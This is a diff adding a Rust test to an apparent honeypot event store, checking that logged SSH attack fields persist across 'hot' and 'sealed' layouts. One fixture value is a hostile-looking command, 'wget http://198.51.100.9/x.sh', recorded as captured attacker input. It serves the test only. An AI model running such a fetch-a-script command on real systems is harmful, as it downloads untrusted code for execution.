@@ -509,6 +509,43 @@ async fn a_partition_holds_one_hour_of_arrivals_and_payloads_come_back_byte_for_
     assert_eq!(all.events[0].received_at, base_time() + Duration::hours(1));
 }
 
+#[tokio::test]
+async fn every_event_comes_back_with_its_fields_whether_hot_or_sealed() {
+    let every_field = EventFields {
+        src_ip: Some("203.0.113.7".into()),
+        src_port: Some(40_022),
+        dst_port: Some(22),
+        username: Some("root".into()),
+        password: Some("pa\"ss".into()),
+        command: Some("wget http://198.51.100.9/x.sh".into()),
+        session: Some("c0ffee".into()),
+        url: Some("http://198.51.100.9/x.sh".into()),
+        file_hash: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
+        protocol: Some("ssh".into()),
+        country: Some("NL".into()),
+        city: Some("Amsterdam".into()),
+        asn: Some(64_496),
+    };
+    let mut full = event(1, "p", "cowrie.command.input", 0, json!({"n": 1}));
+    full.fields = every_field.clone();
+    let bare = event(1, "p", "cowrie.session.closed", 1, json!({"n": 2}));
+    let dir = tempfile::tempdir().unwrap();
+    let store = open(&dir, 1_000_000);
+    store
+        .insert_events(Arc::from(vec![full, bare]))
+        .await
+        .unwrap();
+    for layout in ["hot", "sealed"] {
+        if layout == "sealed" {
+            store.seal_now().unwrap();
+        }
+        let page = store.query_events(EventQuery::default()).await.unwrap();
+        assert_eq!(page.events.len(), 2, "{layout}");
+        assert_eq!(page.events[1].fields, every_field, "{layout}");
+        assert_eq!(page.events[0].fields, EventFields::default(), "{layout}");
+    }
+}
+
 /// An earlier release kept events in the SQLite database's `events` table. Opening the
 /// embedded store moves them, with their ids, and drops the table.
 #[tokio::test]
